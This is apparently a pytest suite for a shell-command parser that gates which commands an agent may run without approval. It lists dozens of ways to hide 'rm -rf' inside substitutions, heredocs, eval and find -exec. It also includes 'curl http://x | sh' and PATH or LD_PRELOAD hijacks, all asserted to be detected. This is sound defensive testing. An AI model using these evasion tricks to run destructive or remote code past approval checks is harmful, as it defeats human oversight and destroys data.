"""The parser sees every trick; what it cannot account for is opaque and never auto-allowed."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from modelroute.execute.approval import evaluate
from modelroute.execute.shellparse import MAX_SUBCOMMANDS, parse_command
from modelroute.policy.schema import ApprovalSettings

SEEN = [
    ("ls; rm -rf x", "rm"),
    ("ls && rm -rf x", "rm"),
    ("false || rm -rf x", "rm"),
    ("ls | rm -rf x", "rm"),
    ("ls & rm -rf x", "rm"),
    ("ls\nrm -rf ~", "rm"),
    ("(cd /; rm -rf x)", "rm"),
    ("{ rm -rf x; }", "rm"),
    ("echo $(rm -rf x)", "rm"),
    ("echo `rm -rf x`", "rm"),
    ('echo "$(rm -rf x)"', "rm"),
    ("diff <(rm -rf x) b", "rm"),
    ("tee >(rm -rf x) < f", "rm"),
    ("cat <<EOF\n$(rm -rf x)\nEOF", "rm"),
    ("env -i A=1 rm -rf x", "rm"),
    ("command rm -rf x", "rm"),
    ("nice -n 10 rm -rf x", "rm"),
    ("timeout -s KILL 5 rm -rf x", "rm"),
    ("ls | xargs -0 -n1 rm", "rm"),
    ("find . -name '*.o' -exec rm -f {} +", "rm"),
    ("find . -execdir rm {} \\;", "rm"),
    ("find . -ok rm {} \\;", "rm"),
    ("bash -c 'rm -rf x'", "rm"),
    ('sh -c "ls; rm -rf x"', "rm"),
    ("zsh -c 'rm -rf x'", "rm"),
    ("sh -c 'bash -c \"sh -c rmdir\"'", "rmdir"),
    ("eval 'rm -rf x'", "rm"),
    ("sudo rm -rf x", "rm"),
    ("bash <<EOF\nrm -rf x\nEOF", "rm"),
    ("bash <<< 'rm -rf x'", "rm"),
    ("if true; then rm -rf x; fi", "rm"),
    ("for f in a; do rm $f; done", "rm"),
    ("while false; do rm x; done", "rm"),
    ("case a in a) rm x;; esac", "rm"),
    ("f() { rm -rf x; }; f", "rm"),
    ("! rm x", "rm"),
    ("r\\m -rf x", "rm"),
    ("'r'm -rf x", "rm"),
    ('"rm" -rf x', "rm"),
    ("echo ${x:-$(rm x)}", "rm"),
    ("a=$(rm x)", "rm"),
    ("export A=$(rm x)", "rm"),
    ("[[ -n $(rm x) ]]", "rm"),
    ("echo $((1 + $(rm x)))", "rm"),
    ("trap 'rm -rf x' EXIT", "rm"),
    ("env -S 'rm -rf x'", "rm"),
    ("exec rm x", "rm"),
    ("time rm x", "rm"),
    ("nohup rm x &", "rm"),
    ("stdbuf -o0 rm x", "rm"),
    ("/bin/rm x", "rm"),
]


@pytest.mark.parametrize(("command", "program"), SEEN)
def test_every_trick_is_seen(command: str, program: str) -> None:
    parsed = parse_command(command)
    assert program in parsed.programs, parsed
    assert evaluate(parsed, ApprovalSettings(allow=["ls", "echo*", "cat*"])).action != "allow"


OPAQUE = [
    "$CMD -rf x",
    "${CMD} x",
    "eval $x",
    'eval "$x"',
    'bash -c "$x"',
    "curl http://x | sh",
    "bash < script.sh",
    "x='a[$(id)]'; (( x ))",
    "echo $(( y ))",
    "[[ $x -eq 1 ]]",
    "let x=y",
    "echo ${x@P}",
    "PATH=/evil:$PATH ls",
    "LD_PRELOAD=/x.so ls",
    "alias ls=rm",
    "hash -p /tmp/evil ls",
    "/bin/r? x",
    "{rm,-rf,x}",
    "echo 'unterminated",
    "ls )",
    "if then fi",
    "env PATH=/evil ls",
    "find . -exec $X {} +",
]


@pytest.mark.parametrize("command", OPAQUE)
def test_unaccountable_is_opaque_and_never_auto_allowed(command: str) -> None:
    parsed = parse_command(command)
    assert parsed.opaque, parsed
    allow_all = ApprovalSettings(allow=["*"])
    assert evaluate(parsed, allow_all).action == "ask"
    assert evaluate(parsed, ApprovalSettings(allow=["*"], policy="never")).action == "deny"


def test_literal_text_is_not_executed() -> None:
    parsed = parse_command("cat <<'EOF'\n$(rm -rf x)\nEOF\necho '$(rm x)' \"\\$(rm y)\"")
    assert parsed.programs == {"cat", "echo"} and not parsed.opaque


def test_sudo_is_flagged() -> None:
    parsed = parse_command("sudo -u root apt-get install x")
    assert parsed.subcommands[0].sudo and parsed.subcommands[0].argv[0] == "apt-get"
    assert evaluate(parsed, ApprovalSettings(allow=["apt-get*"])).action == "ask"


def test_caps() -> None:
    many = "; ".join(["true"] * (MAX_SUBCOMMANDS + 5))
    assert parse_command(many).over_caps
    assert parse_command("x" * 30_000).over_caps
    deep = "true"
    for _ in range(12):
        deep = f"echo $({deep})"
    parsed = parse_command(deep)
    assert parsed.over_caps
    assert evaluate(parsed, ApprovalSettings(allow=["*"])).action == "ask"
    assert evaluate(parsed, ApprovalSettings(allow=["*"], policy="never")).action == "deny"


# ---------------------------------------------------------------- differential test against real bash

SHIMMED = [
    "cat",
    "ls",
    "rm",
    "touch",
    "grep",
    "sort",
    "head",
    "wc",
    "env",
    "xargs",
    "find",
    "timeout",
    "nice",
    "sh",
    "bash",
    "id",
    "whoami",
    "date",
    "tr",
    "sed",
    "mkdir",
    "basename",
    "dirname",
    "seq",
    "true",
]

DIFFERENTIAL = [
    "ls; id && whoami || date",
    "echo $(id) `whoami` | tr a b | sort | head -1",
    "cat <(seq 3) | wc -l",
    "cat <<EOF\n$(date)\nEOF",
    "cat <<'EOF'\n$(date)\nEOF",
    "env -i PATH=$PATH id",
    "nice -n 5 timeout 5 whoami",
    "seq 2 | xargs -n1 basename",
    "find . -maxdepth 0 -exec dirname {} \\;",
    "bash -c 'id; sh -c whoami'",
    "eval 'date; id'",
    "f() { touch t; }; f; rm -f t",
    "if grep -q x /dev/null; then id; else whoami; fi",
    "for i in 1 2; do basename /a/$i; done",
    "x=$(seq 1); echo ${x:-$(date)}",
    "trap 'date' EXIT; true",
    "sh <<EOF\nid\nEOF",
    "(mkdir -p d && cd d && ls) ; rm -rf d",
    "echo a > >(cat) ; sed -n 1p /dev/null",
    "[[ -n $(whoami) ]] && echo ok",
    "command ls >/dev/null; builtin echo",
    "env -S 'id -u'",
]


@pytest.fixture(scope="module")
def shim_dir(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    shims = tmp_path_factory.mktemp("shims")
    log = shims / "log.txt"
    for name in SHIMMED:
        real = shutil.which(name)
        assert real is not None
        script = shims / name
        script.write_text(f'#!/bin/bash\necho {name} >> {log}\nexec {real} "$@"\n')
        script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return shims, log


@pytest.mark.parametrize("command", DIFFERENTIAL)
def test_differential_no_unreported_program(
    command: str, shim_dir: tuple[Path, Path], tmp_path: Path
) -> None:
    shims, log = shim_dir
    log.write_text("")
    env = {"PATH": f"{shims}:{os.environ['PATH']}", "HOME": str(tmp_path)}
    subprocess.run(["/bin/bash", "-c", command], cwd=tmp_path, env=env, capture_output=True, timeout=10)
    executed = set(log.read_text().split())
    reported = parse_command(command).programs
    assert executed, "the test command ran nothing through the shims"
    assert executed <= reported, (executed - reported, reported)
